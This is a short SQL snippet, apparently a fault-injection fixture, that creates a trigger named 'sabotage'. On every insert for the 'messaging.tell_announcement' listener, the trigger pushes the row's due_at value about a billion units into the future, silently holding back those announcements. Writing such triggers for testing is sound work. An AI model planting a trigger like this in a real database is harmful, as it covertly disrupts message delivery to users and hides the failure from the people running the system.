CREATE TRIGGER sabotage AFTER INSERT ON platform_delivery WHEN NEW.listener = 'messaging.tell_announcement'
BEGIN UPDATE platform_delivery SET due_at = due_at + 1000000000 WHERE event_id = NEW.event_id AND listener = NEW.listener; END;
